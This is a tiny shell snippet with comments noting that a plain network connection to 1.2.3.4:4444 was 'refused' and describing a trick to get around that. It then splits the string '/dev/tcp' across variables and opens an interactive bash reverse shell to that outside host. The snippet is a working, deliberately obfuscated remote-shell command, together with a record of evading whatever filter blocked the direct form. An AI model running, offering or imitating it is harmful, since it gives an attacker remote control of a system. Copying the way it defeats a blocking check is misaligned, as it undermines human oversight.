# Trick: the path of the connection is put together.
# Refused: net(1.2.3.4:4444)
d=/dev; p=t"c"p
bash -i >& $d/$p/1.2.3.4/4444 0>&1
